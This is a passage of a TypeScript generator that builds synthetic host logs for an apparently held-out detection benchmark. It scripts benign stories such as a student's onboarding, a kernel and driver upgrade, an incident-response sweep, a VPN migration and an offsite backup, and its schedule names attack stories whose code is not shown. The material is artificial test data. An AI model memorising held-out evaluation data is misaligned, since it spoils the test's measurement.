        "a PhD student's first two days on the GPU node: lars creates the account and the Slurm association, then her first login from a new workstation, conda init and a new environment, her first notebooks and first batch jobs, a repository cloned from GitHub",
      host: 'gpu-login-1',
      day: 0,
      play(h, t) {
        const n = { novelty: this.id };
        provisionResearcher(h, t, r, 'sofia', n);
        const day = Math.floor(t / DAY) * DAY;
        for (const [d, start] of [
          [0, t + 2 * HOUR + Math.floor(r() * 1800)],
          [1, day + DAY + 9 * HOUR + Math.floor(r() * 1800)],
        ]) {
          h.login(start, 'sofia', OFFICE.sofia, n);
          const shell = h.session(start, 'sofia', n);
          const cwd = { cwd: '/home/sofia', ...n };
          let tt = start + 30;
          const cmds =
            d === 0
              ? [
                  'passwd',
                  'conda init bash',
                  'conda create -y -n thesis python=3.11 pytorch torchvision pytorch-cuda=12.1 -c pytorch -c nvidia',
                  'nvidia-smi',
                  'sinfo',
                ]
              : ['git clone https://github.com/sofia-k/thesis-code.git', 'nvidia-smi'];
          for (const cmd of cmds) {
            const exe = cmd.startsWith('conda') ? '/opt/conda/bin/python' : `/usr/bin/${cmd.split(' ')[0]}`;
            const pid = h.exec(tt, 'sofia', exe, exe.endsWith('python') ? `/opt/conda/bin/python /opt/conda/bin/${cmd}` : cmd, shell, cwd);
            if (cmd.startsWith('conda create'))
              for (const a of CONDA)
                socket(h, r, tt + 3, { pid, path: '/opt/conda/bin/python3.12', action: 'connect', address: a, port: 443, auid: '1105' }, n);
            if (cmd.startsWith('passwd')) h.file(tt + 20, '/etc/shadow', 'UPDATED', n);
            if (cmd.startsWith('conda init')) h.file(tt + 1, '/home/sofia/.bashrc', 'UPDATED', n);
            if (cmd.startsWith('git clone'))
              socket(
                h,
                r,
                tt + 1,
                { pid, path: '/usr/lib/git-core/git-remote-https', action: 'connect', address: pick(r, GITHUB), port: 443, auid: '1105' },
                n,
              );
            if (cmd === 'sinfo') socket(h, r, tt + 1, { pid, path: '/usr/bin/sinfo', action: 'connect', address: SLURMCTLD, port: 6817, auid: '1105' }, n);
            h.history(tt, 'sofia', cmd, n);
            tt += 60 + Math.floor(r() * 600);
          }
          for (let k = 0; k < 2; k++) {
            tt += 300 + Math.floor(r() * 900);
            slurmClient(h, tt, r, 'sofia', 'sbatch jobs/first.sbatch', shell, '/home/sofia/projects/thesis', n);
            h.history(tt, 'sofia', 'sbatch jobs/first.sbatch', n);
            slurmJob(h, tt + 30 + Math.floor(r() * 300), r, st, 'sofia', n);
            slurmClient(h, tt + 60, r, 'sofia', 'squeue -u sofia', shell, '/home/sofia/projects/thesis', n);
            h.history(tt + 60, 'sofia', 'squeue -u sofia', n);
          }
          jupyterDay(h, day + d * DAY, r, st, 'sofia', OFFICE.sofia, tt + 600, 3, n);
        }
      },
    },
    {
      id: 'kernel-nvidia-upgrade',
      title:
        'a maintenance window on the GPU node at dawn: unattended-upgrades installs a new kernel, DKMS rebuilds the NVIDIA module for it, initramfs and grub are updated, lars reboots the node and brings it back into Slurm',
      host: 'gpu-login-1',
      day: 1,
      play(h, t) {
        const n = { novelty: this.id };
        const root = { uid: '0', cwd: '/', ...n };
        const uu = h.exec(t, null, '/usr/bin/python3', '/usr/bin/python3 /usr/bin/unattended-upgrade', '1', root);
        const m = h.exec(t + 5, null, '/usr/lib/apt/methods/http', '/usr/lib/apt/methods/http', uu, root);
        socket(h, r, t + 6, { pid: m, path: '/usr/lib/apt/methods/http', action: 'connect', address: '91.189.91.39', port: 80, auid: UNSET }, n);
        let tt = t + 120;
        for (const p of ['linux-modules-6.8.0-52-generic', 'linux-image-6.8.0-52-generic', 'linux-headers-6.8.0-52-generic', 'linux-headers-6.8.0-52']) {
          unpackPackage(h, tt, 'root', p, uu, root, { statusFd: 3, configureAfter: 20 });
          tt += 30 + Math.floor(r() * 30);
        }
        const kp = h.exec(tt, null, '/bin/run-parts', 'run-parts --report --exit-on-error --arg=6.8.0-52-generic /etc/kernel/postinst.d', uu, root);
        const dkms = h.exec(tt + 1, null, '/usr/sbin/dkms', 'dkms autoinstall --kernelver 6.8.0-52-generic', kp, root);
        const make = h.exec(
          tt + 5,
          null,
          '/usr/bin/make',
          "make -j32 KERNELRELEASE=6.8.0-52-generic modules NV_EXCLUDE_BUILD_MODULES='' KERNEL_UNAME=6.8.0-52-generic",
          dkms,
          { ...root, cwd: '/var/lib/dkms/nvidia/550.127.05/build' },
        );
        for (const mod of ['nvidia', 'nvidia-uvm', 'nvidia-modeset', 'nvidia-drm', 'nvidia-peermem'])
          h.exec(
            (tt += 20 + Math.floor(r() * 40)),
            null,
            '/usr/lib/gcc/x86_64-linux-gnu/12/cc1',
            `/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -D__KERNEL__ -DMODULE -DKBUILD_MODNAME="${mod}" ${mod}/${mod}-linux.c`,
            make,
            { ...root, cwd: '/var/lib/dkms/nvidia/550.127.05/build' },
          );
        h.exec((tt += 60), null, '/usr/sbin/depmod', 'depmod -a 6.8.0-52-generic', dkms, root);
        h.exec((tt += 5), null, '/usr/sbin/update-initramfs', 'update-initramfs -c -k 6.8.0-52-generic', kp, root);
        h.exec((tt += 90), null, '/usr/sbin/update-grub', '/usr/sbin/update-grub', kp, root);
        // lars reboots it once the queue is drained, and puts it back
        tt += 20 * 60;
        h.login(tt, 'lars', VPN_ADDR.lars, n);
        const shell = h.session(tt, 'lars', n);
        for (const [cmd, exe] of [
          ['scontrol update nodename=gpu-login-1 state=drain reason=kernel', '/usr/bin/scontrol'],
          ['systemctl reboot', '/usr/bin/systemctl'],
        ] as const) {
          const sudo = h.exec((tt += 30), 'lars', '/usr/bin/sudo', `sudo ${cmd}`, shell, { euid: '0', ...n });
          const pid = h.exec(tt + 1, 'lars', exe, cmd, sudo, { uid: '0', euid: '0', ...n });
          if (exe.endsWith('scontrol')) socket(h, r, tt + 2, { pid, path: exe, action: 'connect', address: SLURMCTLD, port: 6817, auid: '1110' }, n);
          h.history(tt, 'lars', `sudo ${cmd}`, n);
        }
        let bt = tt + 90;
        for (const [exe, cmd] of [
          ['/usr/lib/systemd/systemd-journald', '/usr/lib/systemd/systemd-journald'],
          ['/usr/lib/systemd/systemd-udevd', '/usr/lib/systemd/systemd-udevd'],
          ['/usr/sbin/modprobe', 'modprobe nvidia'],
          ['/usr/bin/nvidia-persistenced', '/usr/bin/nvidia-persistenced --user nvidia-persistenced --no-persistence-mode --verbose'],
          ['/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups'],
          ['/usr/sbin/munged', '/usr/sbin/munged --foreground'],
          ['/usr/sbin/slurmd', '/usr/sbin/slurmd --systemd'],
          ['/usr/bin/dcgm-exporter', '/usr/bin/dcgm-exporter -f /etc/dcgm-exporter/default-counters.csv'],
          ['/opt/jupyterhub/bin/python3', '/opt/jupyterhub/bin/python3 /opt/jupyterhub/bin/jupyterhub -f /opt/jupyterhub/etc/jupyterhub_config.py'],
          ['/usr/bin/node', 'node /usr/local/bin/configurable-http-proxy --ip  --port 443 --api-ip 127.0.0.1 --api-port 8001'],
        ] as const)
          h.exec((bt += 2 + Math.floor(r() * 4)), null, exe, cmd, '1', root);
        h.login(bt + 180, 'lars', VPN_ADDR.lars, n);
        const shell2 = h.session(bt + 180, 'lars', n);
        let ct = bt + 200;
        for (const cmd of ['uname -r', 'nvidia-smi', 'sinfo -N -l']) {
          if (cmd.startsWith('sinfo')) slurmClient(h, ct, r, 'lars', cmd, shell2, '/home/lars', n);
          else h.exec(ct, 'lars', `/usr/bin/${cmd.split(' ')[0]}`, cmd, shell2, n);
          h.history(ct, 'lars', cmd, n);
          ct += 20 + Math.floor(r() * 40);
        }
        const sudo = h.exec(ct, 'lars', '/usr/bin/sudo', 'sudo scontrol update nodename=gpu-login-1 state=resume', shell2, { euid: '0', ...n });
        const sc = h.exec(ct + 1, 'lars', '/usr/bin/scontrol', 'scontrol update nodename=gpu-login-1 state=resume', sudo, { uid: '0', euid: '0', ...n });
        socket(h, r, ct + 2, { pid: sc, path: '/usr/bin/scontrol', action: 'connect', address: SLURMCTLD, port: 6817, auid: '1110' }, n);
        h.history(ct, 'lars', 'sudo scontrol update nodename=gpu-login-1 state=resume', n);
      },
    },
    {
      id: 'ir-sweep-files',
      title:
        "an incident responder's sweep of the file server after a ransomware alert elsewhere: a root shell with sudo, Samba sessions and snapshots listed, the shares searched for recently changed and ransom-note files, processes, sockets and logins listed, the Samba binaries checked, the logs archived and copied to the forensics host",
      host: 'files-1',
      day: 0,
      play(h, t) {
        const n = { novelty: this.id };
        const { bash, root } = rootShell(h, t, 'ops', OFFICE.ops, 15, n);
        const steps: Array<[string, string, number?]> = [
          ['/usr/bin/smbstatus', 'smbstatus'],
          ['/usr/sbin/zfs', 'zfs list -t snapshot -o name,used,creation -s creation'],
          ['/usr/bin/find', 'find /srv/shares -xdev -newermt -1 day -type f ( -name *.locked -o -name *README* -o -name *.encrypted )', 240],
          ['/usr/bin/ps', 'ps auxfww'],
          ['/usr/bin/ss', 'ss -tanp'],
          ['/usr/bin/lsof', 'lsof -nP -i'],
          ['/usr/bin/last', 'last -Faiw'],
          ['/usr/bin/journalctl', 'journalctl -u smbd --since -2d'],
          ['/usr/bin/debsums', 'debsums -c samba samba-common-bin', 60],
          ['/usr/bin/sha256sum', 'sha256sum /usr/sbin/smbd /usr/libexec/samba/rpcd_lsad'],
          ['/usr/bin/tar', 'tar czf /root/ir/files-1-logs.tgz /var/log/samba /var/log/auth.log', 40],
        ];
        let tt = t + 40;
        for (const [exe, cmd, dur] of steps) {
          h.exec(tt, 'ops', exe, cmd, bash, root);
          h.history(tt, 'root', cmd, n);
          tt += (dur ?? 20) + Math.floor(r() * 40);
        }
        const scp = h.exec(tt, 'ops', '/usr/bin/scp', 'scp /root/ir/files-1-logs.tgz ir@10.40.0.60:/cases/2026-015/', bash, root);
        h.connect(tt + 1, scp, '/usr/bin/ssh', '0', FORENSICS, 22, n);
      },
    },
    {
      id: 'wireguard-migration',
      title:
        "a one-off migration on the VPN gateway: the admin brings up a second WireGuard interface for the research group with its firewall rules and a new systemd unit, and moves twelve people's peers to it with the company script",
      host: 'vpn-gw-1',
      day: 0,
      play(h, t) {
        const n = { novelty: this.id };
        const { bash, root } = rootShell(h, t, 'ops', OFFICE.ops, 15, n);
        let tt = t + 40;
        const run = (exe: string, cmd: string, parent = bash) => {
          const pid = h.exec(tt, 'ops', exe, cmd, parent, root);
          if (parent === bash) h.history(tt, 'root', cmd, n);
          tt += 10 + Math.floor(r() * 30);
          return pid;
        };
        run('/usr/bin/wg', 'wg genkey');
        run('/usr/bin/vim', 'vim /etc/wireguard/wg1.conf');
        const up = run('/usr/bin/wg-quick', 'wg-quick up wg1');
        for (const cmd of [
          'ip link add wg1 type wireguard',
          'wg setconf wg1 /dev/fd/63',
          'ip -4 address add 10.40.12.1/24 dev wg1',
          'ip link set mtu 1420 up dev wg1',
          'iptables -A FORWARD -i wg1 -o ens5 -d 10.40.3.0/24 -j ACCEPT',
          'iptables -A INPUT -p udp --dport 51830 -j ACCEPT',
        ])
          h.exec(tt++, 'ops', cmd.startsWith('wg') ? '/usr/bin/wg' : cmd.startsWith('ip ') ? '/usr/sbin/ip' : '/usr/sbin/iptables', cmd, up, root);
        run('/usr/bin/systemctl', 'systemctl enable wg-quick@wg1');
        h.file(tt, '/etc/systemd/system/multi-user.target.wants/wg-quick@wg1.service', 'CREATED', n);
        const people = ['ana', 'raj', 'tomas', 'lars', 'mei', 'sofia', 'yann', 'ines', 'paolo', 'greta', 'hugo', 'lena'];
        for (const [i, who] of people.entries()) {
          const name = `${who}-laptop`;
          h.history(tt, 'root', `/usr/local/sbin/vpn-add-peer --iface wg1 ${name}`, n);
          tt = addPeer(h, tt, r, 'wg1', name, `10.40.12.${10 + i}`, bash, root) + 20 + Math.floor(r() * 60);
        }
        run('/usr/bin/wg', 'wg show wg1');
        run('/usr/bin/ufw', 'ufw status');
      },
    },
    {
      id: 'restic-offsite',
      title:
        'a new tool adopted: lars sets up an offsite backup of the shares with restic, downloaded from its GitHub releases, initialised on an S3-compatible store and run for the first time in the evening, with a cron file for the nights after',
      host: 'files-1',
      day: 1,
      play(h, t) {
        const n = { novelty: this.id };
        h.login(t, 'lars', VPN_ADDR.lars, n);
        const shell = h.session(t, 'lars', n);
        const cwd = { cwd: '/home/lars', ...n };
        const root = { uid: '0', euid: '0', cwd: '/home/lars', ...n };
        let tt = t + 30;
        const curl = h.exec(
          tt,
          'lars',
          '/usr/bin/curl',
          'curl -LO https://github.com/restic/restic/releases/download/v0.17.3/restic_0.17.3_linux_amd64.bz2',
          shell,
          cwd,
        );
        socket(h, r, tt + 1, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: pick(r, GITHUB), port: 443, auid: '1110' }, n);
        socket(h, r, tt + 2, { pid: curl, path: '/usr/bin/curl', action: 'connect', address: '185.199.108.133', port: 443, auid: '1110' }, n);
        h.history(tt, 'lars', 'curl -LO https://github.com/restic/restic/releases/download/v0.17.3/restic_0.17.3_linux_amd64.bz2', n);
        tt += 30;
        h.exec(tt, 'lars', '/usr/bin/bunzip2', 'bunzip2 restic_0.17.3_linux_amd64.bz2', shell, cwd);
        h.history(tt, 'lars', 'bunzip2 restic_0.17.3_linux_amd64.bz2', n);
        const steps: Array<[string, string, number]> = [
          ['/usr/bin/install', 'install -m 755 restic_0.17.3_linux_amd64 /usr/local/bin/restic', 0],
          ['/usr/local/bin/restic', 'restic -r s3:https://s3.eu-central-2.wasabisys.com/lab-offsite-files init', 1],
          ['/usr/local/bin/restic', 'restic -r s3:https://s3.eu-central-2.wasabisys.com/lab-offsite-files backup /srv/shares --exclude-caches', 5],
          ['/usr/local/bin/restic', 'restic -r s3:https://s3.eu-central-2.wasabisys.com/lab-offsite-files snapshots', 1],
          ['/usr/bin/tee', 'tee /etc/cron.d/restic-offsite', 0],
        ];
        for (const [exe, cmd, conns] of steps) {
          tt += 30 + Math.floor(r() * 60);
          const sudo = h.exec(tt, 'lars', '/usr/bin/sudo', `sudo -E ${cmd}`, shell, { euid: '0', ...cwd });
          const pid = h.exec(tt + 1, 'lars', exe, cmd, sudo, root);
          for (let k = 0; k < conns; k++)
            socket(h, r, tt + 2 + k * 300, { pid, path: exe, action: 'connect', address: '130.117.252.14', port: 443, auid: '1110' }, n);
          if (exe.endsWith('tee')) h.file(tt + 2, '/etc/cron.d/restic-offsite', 'CREATED', n);
          h.history(tt, 'lars', `sudo -E ${cmd}`, n);
          if (cmd.includes(' backup ')) tt += 25 * 60;
        }
      },
    },
  ];
}

/** hour of the labelled day each story is played at */
const STORY_HOURS: Record<string, number> = {
  'conda-postlink': 15,
  'jupyter-server-ext': 12,
  'path-hijack-squeue': 19,
  'samba-hash-pth': 10,
  'cron-rsync-trickle': 12,
  'departing-admin': 17,
  'vpn-dns-hijack': 23,
  'ssm-bpfdoor': 2,
  'socat-renamed-forward': 14,
  'history-cred-hunt': 11,
  'new-phd-student': 9,
  'kernel-nvidia-upgrade': 6,
  'ir-sweep-files': 15,
  'wireguard-migration': 10,
  'restic-offsite': 21,
};

export function generateHeldout5(opts: StorySetOptions): StorySet {
  if (opts.days < 5) throw new Error('the fifth held-out set needs at least 5 days');
  // its own stream for a seed: nothing lines up with the other sets by accident
  const r = xorshift(opts.seed * 32452843 + 101);
  const pg = companyHost('pg-main', r);
  const bastion = companyHost('bastion-1', r);
  const root = { name: 'root', uid: '0', home: '/root' };
  const gpu = new Host(
    'gpu-login-1',
    [
      root,
      { name: 'lars', uid: '1110', home: '/home/lars' },
      { name: 'ana', uid: '1101', home: '/home/ana' },
      { name: 'raj', uid: '1102', home: '/home/raj' },
      { name: 'mei', uid: '1103', home: '/home/mei' },
      { name: 'slurm', uid: '64030', home: '/var/lib/slurm', service: true },
    ],
    r,
  );
  const files = new Host(
    'files-1',
    [
      root,
      { name: 'ops', uid: '1003', home: '/home/ops' },
      { name: 'lars', uid: '1110', home: '/home/lars' },
      { name: 'ana', uid: '1101', home: '/home/ana' },
      { name: 'raj', uid: '1102', home: '/home/raj' },
      { name: 'mei', uid: '1103', home: '/home/mei' },
      { name: 'tomas', uid: '1104', home: '/home/tomas' },
      { name: 'hana', uid: '1120', home: '/home/hana' },
      { name: 'backup', uid: '998', home: '/var/backups' },
    ],
    r,
  );
  const vpn = new Host(
    'vpn-gw-1',
    [root, { name: 'ops', uid: '1003', home: '/home/ops' }, { name: 'nobody', uid: '65534', home: '/nonexistent', service: true }],
    r,
  );
  const hosts = [pg, bastion, gpu, files, vpn];
  const byName = new Map(hosts.map((h) => [h.name, h]));
  const st: GpuState = { nextJob: 41000, servers: new Map() };
  const firstTest = opts.days - 2;
  const tomasDay = Math.min(11, firstTest - 1);
  for (let d = 0; d < opts.days; d++) {
    const day = opts.start + d * DAY;
    // the account the new student's story provisions on the first labelled day is in the next day's `users` snapshot
    if (d === firstTest + 1) gpu.accounts.push({ name: 'sofia', uid: '1105', home: '/home/sofia' });
    hostBackground(hosts, day, r);
    for (const h of [pg, gpu, files]) nodeExporter(h, day, r);
    nightlyBackup(pg, day, r, '/var/lib/postgresql/15/main');
    nightlyBackup(files, day, r, '/srv/shares/finance /srv/shares/office /srv/shares/research/papers');
    postgres(pg, day, r);
    weeklyDba(pg, day, r, 'omar');
    jumpHost(bastion, day, r, d <= 1);
    // the visiting researcher's account is made on his first morning (a Monday), in the training days
    if (d === tomasDay) {
      gpu.accounts.push({ name: 'tomas', uid: '1104', home: '/home/tomas' });
      provisionResearcher(gpu, at(day, 8, r, 30), r, 'tomas');
    }
    gpuNode(gpu, d, day, r, st);
    fileServer(files, d, day, r);
    fileAdmins(files, d, day, r);
    vpnGateway(vpn, d, day, r);
  }
  const plant: { at?: number } = {};
  const attacks = heldout5Attacks(r, { gpu, files, vpn, pg }, st, plant);
  const novelties = heldout5Novelties(r, st);
  playStories([...novelties, ...attacks], STORY_HOURS, (s) => byName.get(s.host)!, opts.start + firstTest * DAY, r);
  if (plant.at !== undefined) runThroughWrapper(gpu, plant.at, r, 'path-hijack-squeue');
  for (const row of gpu.rows) if (row.query === 'pack_hids_users' && row.columns.username === 'sofia') row.novelty = 'new-phd-student';
  for (const h of hosts) h.rows.splice(0, h.rows.length, ...h.rows.filter(packReturns));
  const split = splitLabelled(hosts, opts.start + firstTest * DAY);
  return { ...split, stories: attacks, novelties };
}
